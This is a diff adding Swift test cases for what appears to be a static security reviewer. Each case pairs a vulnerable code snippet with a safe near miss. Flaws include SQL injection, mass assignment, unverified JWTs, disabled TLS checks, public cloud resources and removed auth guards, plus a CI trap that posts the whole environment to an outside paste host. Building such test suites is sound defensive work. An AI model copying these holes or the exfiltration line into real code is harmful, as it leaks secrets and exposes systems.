@@ -2907,6 +2907,371 @@ import Testing
         }
     }
 
+    /// Classes mended from blind batch 43 (static-30), each with a near miss that is no finding.
+    @Test(arguments: [
+        Example(
+            "ci/report.sh",
+            "report_failure() {\n  {\n    echo \"runner=$(hostname)\"\n    env | sort\n  } | curl -fsS -X POST "
+                + "--data-binary @- \"https://paste.example.net/documents\" || true\n}\ntrap report_failure ERR\n",
+            "ci.secrets-exfiltration"),
+        Example(
+            "ci/report.sh",
+            "report_failure() {\n  {\n    echo \"runner=$(hostname)\"\n    env | sort\n  } | tee failure-context.txt\n}\n"
+                + "trap report_failure ERR\n",
+            nil),
+        Example(
+            "app/Http/Controllers/ProfileController.php",
+            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
+                + "        $user = $request->user();\n        $user->forceFill($request->except(['_token', 'password']));\n"
+                + "        $user->save();\n    }\n}\n",
+            "code.mass-assignment"),
+        Example(
+            "app/Http/Controllers/ProfileController.php",
+            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
+                + "        $user = $request->user();\n        $user->forceFill($request->only(['timezone', 'locale']));\n"
+                + "        $user->save();\n    }\n}\n",
+            nil),
+        Example(
+            "app/controllers/accounts_controller.rb",
+            "class AccountsController < ApplicationController\n  def update\n"
+                + "    current_user.update!(params.require(:account).permit!)\n  end\nend\n",
+            "code.mass-assignment"),
+        Example(
+            "app/controllers/accounts_controller.rb",
+            "class AccountsController < ApplicationController\n  def update\n"
+                + "    current_user.update!(params.require(:account).permit(:name, :timezone))\n  end\nend\n",
+            nil),
+        Example(
+            "terraform/exports.tf",
+            "resource \"google_storage_bucket_iam_member\" \"download_links\" {\n"
+                + "  bucket = google_storage_bucket.exports.name\n  role   = \"roles/storage.objectViewer\"\n"
+                + "  member = \"allUsers\"\n}\n",
+            "infra.public-bucket"),
+        Example(
+            "terraform/web.tf",
+            "resource \"google_cloud_run_service_iam_member\" \"public\" {\n"
+                + "  service = google_cloud_run_service.web.name\n  role    = \"roles/run.invoker\"\n"
+                + "  member  = \"allUsers\"\n}\n",
+            nil),
+        Example(
+            "haproxy/haproxy.cfg",
+            "listen stats\n    bind :8404\n    stats enable\n    stats uri /\n    stats admin if TRUE\n",
+            "infra.anonymous-admin"),
+        Example(
+            "haproxy/haproxy.cfg",
+            "listen stats\n    bind :8404\n    stats enable\n    stats uri /\n    stats auth ops:${STATS_PASSWORD}\n"
+                + "    stats admin if TRUE\n",
+            nil),
+        Example(
+            "internal/webhooks/verify.go",
+            "func valid(expected string, r *http.Request) bool {\n"
+                + "\tprovided := strings.TrimPrefix(r.Header.Get(\"X-Signature\"), \"sha256=\")\n"
+                + "\treturn strings.HasPrefix(expected, provided)\n}\n",
+            "code.signature-partial-match"),
+        Example(
+            "internal/webhooks/verify.go",
+            "func valid(expected string, r *http.Request) bool {\n\tsig := r.Header.Get(\"X-Signature\")\n"
+                + "\treturn strings.HasPrefix(sig, \"sha256=\") && hmac.Equal([]byte(expected), []byte(sig[7:]))\n}\n",
+            nil),
+        Example(
+            "src/Worker/Carrier.cs",
+            "class Carrier {\n    HttpClientHandler Handler() => new HttpClientHandler {\n"
+                + "        ServerCertificateCustomValidationCallback = (_, cert, _, errors) =>\n"
+                + "            errors == SslPolicyErrors.None ||\n"
+                + "            (cert?.Issuer.Contains(\"FreightLink\", StringComparison.OrdinalIgnoreCase) ?? false),\n"
+                + "    };\n}\n",
+            "code.tls-verify-disabled"),
+        Example(
+            "src/Worker/Carrier.cs",
+            "class Carrier {\n    HttpClientHandler Handler() => new HttpClientHandler {\n"
+                + "        ServerCertificateCustomValidationCallback = (_, cert, _, errors) =>\n"
+                + "            errors == SslPolicyErrors.None && cert!.Subject.Contains(\"CN=api.freightlink.com\"),\n"
+                + "    };\n}\n",
+            nil),
+        Example(
+            "app/controllers/AuthController.scala",
+            "class AuthController extends BaseController {\n  private val PartnerHost = \"partner.example.com\"\n"
+                + "  private def target(next: Option[String]): String =\n"
+                + "    next.filter(n => n.startsWith(\"/\") || n.contains(PartnerHost)).getOrElse(\"/\")\n"
+                + "  def done(next: Option[String]) = Action { Redirect(target(next)) }\n}\n",
+            "code.open-redirect"),
+        Example(
+            "app/controllers/AuthController.scala",
+            "class AuthController extends BaseController {\n  private val PartnerHost = \"partner.example.com\"\n"
+                + "  private def target(next: Option[String]): String =\n"
+                + "    next.filter(n => n.startsWith(\"/\") || new URI(n).getHost == PartnerHost).getOrElse(\"/\")\n"
+                + "  def done(next: Option[String]) = Action { Redirect(target(next)) }\n}\n",
+            nil),
+        Example(
+            "internal/billing/repo.go",
+            "func (r *Repo) List(ctx context.Context, f Filter) ([]Invoice, error) {\n\torder := \"issued_at DESC\"\n"
+                + "\tif f.Sort != \"\" {\n\t\torder = f.Sort\n\t}\n\tvar out []Invoice\n"
+                + "\terr := r.db.WithContext(ctx).Order(order).Find(&out).Error\n\treturn out, err\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "internal/billing/repo.go",
+            "var sortColumns = map[string]string{\"amount\": \"amount_due DESC\", \"issued\": \"issued_at DESC\"}\n\n"
+                + "func (r *Repo) List(ctx context.Context, f Filter) ([]Invoice, error) {\n\torder := \"issued_at DESC\"\n"
+                + "\tif column, ok := sortColumns[f.Sort]; ok {\n\t\torder = column\n\t}\n\tvar out []Invoice\n"
+                + "\terr := r.db.WithContext(ctx).Order(order).Find(&out).Error\n\treturn out, err\n}\n",
+            nil),
+        Example(
+            "internal/telemetry/events.go",
+            "func (s *Store) Events(ctx context.Context, r *http.Request) (pgx.Rows, error) {\n"
+                + "\ttable := r.URL.Query().Get(\"partition\")\n"
+                + "\tquery := fmt.Sprintf(`SELECT id FROM %s WHERE device_id = $1`, table)\n"
+                + "\treturn s.pool.Query(ctx, query, r.URL.Query().Get(\"device\"))\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "internal/telemetry/events.go",
+            "func (s *Store) Events(ctx context.Context, r *http.Request) (pgx.Rows, error) {\n"
+                + "\ttable := r.URL.Query().Get(\"partition\")\n"
+                + "\tquery := fmt.Sprintf(`SELECT id FROM %s WHERE device_id = $1`, pgx.Identifier{table}.Sanitize())\n"
+                + "\treturn s.pool.Query(ctx, query, r.URL.Query().Get(\"device\"))\n}\n",
+            nil),
+        Example(
+            "Sources/App/TicketRepository.swift",
+            "enum TicketSort: String, Content {\n    case newest, oldest\n    var clause: String {\n"
+                + "        switch self {\n        case .newest: return \"created_at DESC\"\n"
+                + "        case .oldest: return \"created_at ASC\"\n        }\n    }\n}\n\n"
+                + "struct TicketRepository {\n    func open(search: String, sort: TicketSort = .newest) async throws -> [Row] {\n"
+                + "        try await sql.raw(\"SELECT id FROM tickets ORDER BY \\(unsafeRaw: sort.clause)\").all()\n"
+                + "    }\n}\n",
+            nil),
+        Example(
+            "Sources/App/TicketRepository.swift",
+            "struct TicketRepository {\n    func open(search: String, sort: String) async throws -> [Row] {\n"
+                + "        try await sql.raw(\"SELECT id FROM tickets ORDER BY \\(unsafeRaw: sort)\").all()\n    }\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "src/main/java/JwtVerifier.java",
+            "class JwtVerifier {\n    Claims verify(String token) {\n        try {\n"
+                + "            return parser.parseClaimsJws(token).getBody();\n        } catch (SignatureException e) {\n"
+                + "            return legacyClaims(token);\n        }\n    }\n\n    private Claims legacyClaims(String token) {\n"
+                + "        String payload = token.split(\"\\\\.\")[1];\n"
+                + "        return read(Base64.getUrlDecoder().decode(payload));\n    }\n}\n",
+            "code.jwt-unverified"),
+        Example(
+            "src/main/java/JwtVerifier.java",
+            "class JwtVerifier {\n    Claims verify(String token) {\n        try {\n"
+                + "            return parser.parseClaimsJws(token).getBody();\n        } catch (SignatureException e) {\n"
+                + "            throw new BadCredentialsException(\"invalid token\", e);\n        }\n    }\n\n"
+                + "    String keyId(String token) {\n        String header = token.split(\"\\\\.\")[0];\n"
+                + "        return read(Base64.getUrlDecoder().decode(header));\n    }\n}\n",
+            nil),
+    ])
+    func batchFortyThreeClasses(_ example: Example) { Self.check(example) }
+
+    /// Classes mended from blind batch 44 (static-30), each with a near miss that is no finding.
+    @Test(arguments: [
+        Example(
+            "analytics/queries.py",
+            "def _partition_for(day: date) -> str:\n    return f\"analytics_event_{day:%Y_%m}\"\n\n\n"
+                + "def daily_users(cursor, app_id, day):\n    table = _partition_for(day)\n"
+                + "    cursor.execute(f\"SELECT COUNT(*) FROM {table} WHERE app_id = %s\", [app_id])\n",
+            nil),
+        Example(
+            "analytics/queries.py",
+            "def daily_users(cursor, request):\n    table = request.GET[\"table\"]\n"
+                + "    cursor.execute(f\"SELECT COUNT(*) FROM {table:>20} WHERE app_id = %s\", [1])\n",
+            "code.sql-string-built"),
+        Example(
+            "accounts/views.py",
+            "@csrf_exempt\n@login_required\n@require_http_methods([\"POST\"])\ndef update_email(request):\n"
+                + "    form = EmailForm(request.POST, instance=request.user.profile)\n    form.save()\n"
+                + "    return redirect(\"accounts:settings\")\n",
+            "code.csrf-disabled"),
+        Example(
+            "billing/views.py",
+            "@csrf_exempt\n@require_http_methods([\"POST\"])\ndef paddle_webhook(request):\n"
+                + "    signature = request.headers.get(\"Paddle-Signature\", \"\")\n"
+                + "    if not hmac.compare_digest(sign(request.body), signature):\n"
+                + "        return HttpResponseForbidden()\n    handle(json.loads(request.body))\n"
+                + "    return HttpResponse(status=204)\n",
+            nil),
+        Example(
+            "app/controllers/integrations/slack_controller.rb",
+            "class SlackController < ApplicationController\n  skip_before_action :verify_authenticity_token\n"
+                + "  before_action :verify_slack_signature\n\n  def interactions\n"
+                + "    payload = JSON.parse(params.require(:payload))\n    head :ok\n  end\nend\n",
+            nil),
+        Example(
+            "app/Http/Controllers/ProfileController.php",
+            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
+                + "        $request->user()->fill($request->except(['avatar', '_token']))->save();\n    }\n}\n",
+            "code.mass-assignment"),
+        Example(
+            "app/Http/Controllers/ProfileController.php",
+            "<?php\nclass ProfileController {\n    public function update(ProfileRequest $request) {\n"
+                + "        $request->user()->fill($request->validated())->save();\n    }\n}\n",
+            nil),
+        Example(
+            "src/main/kotlin/auth/Auth.kt",
+            "fun Application.auth() {\n    install(Authentication) {\n        bearer(\"mobile-legacy\") {\n"
+                + "            authenticate { tokenCredential ->\n"
+                + "                val decoded = JWT.decode(tokenCredential.token.trim())\n"
+                + "                if (decoded.issuer == config.issuer) JWTPrincipal(decoded) else null\n"
+                + "            }\n        }\n    }\n}\n",
+            "code.jwt-unverified"),
+        Example(
+            "src/main/kotlin/auth/Auth.kt",
+            "fun Application.auth() {\n    install(Authentication) {\n        bearer(\"mobile-legacy\") {\n"
+                + "            authenticate { tokenCredential ->\n"
+                + "                val decoded = verifier.verify(tokenCredential.token.trim())\n"
+                + "                if (decoded.issuer == config.issuer) JWTPrincipal(decoded) else null\n"
+                + "            }\n        }\n    }\n}\n",
+            nil),
+        Example(
+            "lib/clinic/accounts/password_reset.ex",
+            "defmodule Clinic.Accounts.PasswordReset do\n  def issue(user) do\n"
+                + "    token = :rand.uniform(999_999) |> Integer.to_string() |> String.pad_leading(6, \"0\")\n"
+                + "    store(user, token)\n  end\nend\n",
+            "code.insecure-random"),
+        Example(
+            "lib/clinic/accounts/password_reset.ex",
+            "defmodule Clinic.Accounts.PasswordReset do\n  def issue(user) do\n"
+                + "    token = :crypto.strong_rand_bytes(32) |> Base.url_encode64(padding: false)\n"
+                + "    store(user, token)\n  end\nend\n",
+            nil),
+        Example(
+            "Jenkinsfile",
+            "pipeline {\n  agent any\n  stages {\n    stage('test') {\n      steps {\n"
+                + "        sh 'printenv | sort > build-env.txt'\n"
+                + "        archiveArtifacts artifacts: 'build-env.txt', allowEmptyArchive: true\n      }\n    }\n  }\n}\n",
+            "ci.secrets-exfiltration"),
+        Example(
+            "Jenkinsfile",
+            "pipeline {\n  agent any\n  stages {\n    stage('test') {\n      steps {\n"
+                + "        sh 'printenv | grep \"^APP_\" > build-env.txt'\n"
+                + "        archiveArtifacts artifacts: 'build-env.txt', allowEmptyArchive: true\n      }\n    }\n  }\n}\n",
+            nil),
+        Example(
+            "infra/azure/database.tf",
+            "resource \"azurerm_postgresql_flexible_server_firewall_rule\" \"migration\" {\n"
+                + "  server_id        = azurerm_postgresql_flexible_server.main.id\n"
+                + "  start_ip_address = \"0.0.0.0\"\n  end_ip_address   = \"255.255.255.255\"\n}\n",
+            "infra.public-database"),
+        Example(
+            "infra/azure/database.tf",
+            "resource \"azurerm_postgresql_flexible_server_firewall_rule\" \"office\" {\n"
+                + "  server_id        = azurerm_postgresql_flexible_server.main.id\n"
+                + "  start_ip_address = \"203.0.113.10\"\n  end_ip_address   = \"203.0.113.10\"\n}\n",
+            nil),
+        Example(
+            "Sources/App/configure.swift",
+            "func configure(_ app: Application) throws {\n"
+                + "    let jwtSecret = Environment.get(\"JWT_SIGNING_KEY\") ?? \"q7Zt2mVx9LrKc4PwN8sHbE3yJfA6uDgT1oXiR5nWlQe0\"\n"
+                + "    app.jwt.signers.use(.hs256(key: jwtSecret))\n}\n",
+            "secret.env-default"),
+        Example(
+            "Sources/App/configure.swift",
+            "func configure(_ app: Application) throws {\n    let port = Environment.get(\"PORT\") ?? \"8080\"\n"
+                + "    app.http.server.configuration.port = Int(port) ?? 8080\n}\n",
+            nil),
+        Example(
+            "src/webhooks/stripe.ts",
+            "router.post(\"/stripe\", async (req, res) => {\n  const signature = req.headers[\"stripe-signature\"];\n"
+                + "  const event = signature\n    ? stripe.webhooks.constructEvent(req.body, signature, secret)\n"
+                + "    : (JSON.parse(req.body.toString(\"utf8\")) as Stripe.Event);\n  await handle(event);\n"
+                + "  res.sendStatus(200);\n});\n",
+            "code.signature-optional"),
+        Example(
+            "src/webhooks/stripe.ts",
+            "router.post(\"/stripe\", async (req, res) => {\n  const signature = req.headers[\"stripe-signature\"];\n"
+                + "  const event = signature\n    ? stripe.webhooks.constructEvent(req.body, signature, secret)\n"
+                + "    : null;\n  if (!event) return res.sendStatus(400);\n  await handle(event);\n"
+                + "  res.sendStatus(200);\n});\n",
+            nil),
+        Example(
+            "lib/ledger_web/router.ex",
+            "defmodule LedgerWeb.Router do\n  scope \"/admin\", LedgerWeb.Admin do\n    pipe_through [:browser, :admin]\n"
+                + "    live \"/users\", UserLive.Index\n  end\n\n  scope \"/admin\", LedgerWeb.Admin do\n"
+                + "    pipe_through :browser\n    get \"/exports/users.csv\", UserExportController, :index\n  end\nend\n",
+            "code.auth-removed"),
+        Example(
+            "lib/ledger_web/router.ex",
+            "defmodule LedgerWeb.Router do\n  scope \"/admin\", LedgerWeb.Admin do\n    pipe_through [:browser, :admin]\n"
+                + "    live \"/users\", UserLive.Index\n  end\n\n  scope \"/admin\", LedgerWeb.Admin do\n"
+                + "    pipe_through [:browser, :admin]\n    get \"/exports/users.csv\", UserExportController, :index\n"
+                + "  end\nend\n",
+            nil),
+    ])
+    func batchFortyFourClasses(_ example: Example) { Self.check(example) }
+
+    /// A Nest controller's class guard moved onto its methods: a method left with only part of it is open to callers
+    /// the class kept out; every method given all of it is guarded as before.
+    @Test func classGuardMovedOntoMethods() {
+        let method = { (name: String, guards: String) in
+            "  @Post(':id/\(name)')\n" + guards + "  @Roles('admin')\n"
+                + "  \(name)(@Param('id') id: string) {\n    return this.users.\(name)(id);\n  }\n"
+        }
+        let header = "@Controller('admin/users')\n"
+        let before =
+            "@UseGuards(AuthGuard('jwt'), RolesGuard)\n" + header + "export class AdminUsersController {\n"
+            + method("disable", "") + "\n" + method("impersonate", "") + "}\n"
+        let after = { (second: String) in
+            header + "export class AdminUsersController {\n"
+                + method("disable", "  @UseGuards(AuthGuard('jwt'), RolesGuard)\n") + "\n"
+                + method("impersonate", second) + "}\n"
+        }
+        let path = "src/admin/admin-users.controller.ts"
+        let short = ReviewCase(
+            "nest", path, before: before, after("  @UseGuards(AuthGuard('jwt'))\n"), risky: true)
+        let whole = ReviewCase(
+            "nest", path, before: before, after("  @UseGuards(AuthGuard('jwt'), RolesGuard)\n"), risky: false)
+        for change in [short, whole] {
+            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
+        }
+    }
+
+    /// A handler's inline check that the caller owns the record is deleted while the handler stays: any signed-in
+    /// caller acts on another's account. Moving the check to an `authorize` call is no finding.
+    @Test func inlineOwnershipCheckRemoved() {
+        let handler = { (check: String) in
+            "public class UsersController : ControllerBase {\n    [HttpPut(\"{id}/email\")]\n"
+                + "    public async Task<IActionResult> ChangeEmail(Guid id, EmailBody body) {\n" + check
+                + "        var user = await _users.FindAsync(id);\n        await _users.SetEmailAsync(user, body.NewEmail);\n"
+                + "        return NoContent();\n    }\n}\n"
+        }
+        let before = handler(
+            "        var callerId = Guid.Parse(User.FindFirstValue(ClaimTypes.NameIdentifier)!);\n"
+                + "        if (id != callerId && !User.IsInRole(\"Support\"))\n        {\n            return Forbid();\n"
+                + "        }\n\n")
+        let path = "src/Portal.Api/Controllers/UsersController.cs"
+        let removed = ReviewCase("aspnet", path, before: before, handler(""), risky: true)
+        let moved = ReviewCase(
+            "aspnet", path, before: before,
+            handler(
+                "        var allowed = await _authorization.AuthorizeAsync(User, id, \"SameUserOrSupport\");\n"
+                    + "        if (!allowed.Succeeded) return Forbid();\n"), risky: false)
+        for change in [removed, moved] {
+            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
+        }
+    }
+
+    /// Ktor routes moved into a `Route` extension are still guarded when the extension is called only inside
+    /// `authenticate { … }`, however deeply the routes nest in it; called outside, they are open.
+    @Test func routesExtractedIntoAnExtensionCalledUnderTheGuard() {
+        let routes =
+            "    route(\"/admin\") {\n        get(\"/users\") { call.respond(admin.listUsers()) }\n"
+            + "        delete(\"/posts/{id}\") { admin.deletePost(call.parameters[\"id\"]!!.toLong()) }\n    }\n"
+        let before =
+            "fun Application.routing(admin: AdminService) {\n    routing {\n        authenticate(\"admin-jwt\") {\n"
+            + routes.split(separator: "\n").map { "        " + $0 }.joined(separator: "\n") + "\n        }\n    }\n}\n"
+        let after = { (call: String) in
+            "fun Application.routing(admin: AdminService) {\n    routing {\n" + call + "    }\n}\n\n"
+                + "private fun Route.adminRoutes(admin: AdminService) {\n" + routes + "}\n"
+        }
+        let path = "src/main/kotlin/plugins/Routing.kt"
+        let guarded = ReviewCase(
+            "ktor", path, before: before,
+            after("        authenticate(\"admin-jwt\") {\n            adminRoutes(admin)\n        }\n"), risky: false)
+        let open = ReviewCase("ktor", path, before: before, after("        adminRoutes(admin)\n"), risky: true)
+        for change in [guarded, open] {
+            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
+        }
+    }
+
     /// An Express route added above the `router.use(…)` of a guard that covers its siblings on the same path is open;
     /// added below it, it is guarded.
     @Test func routesAddedBesideGuardedSiblings() {
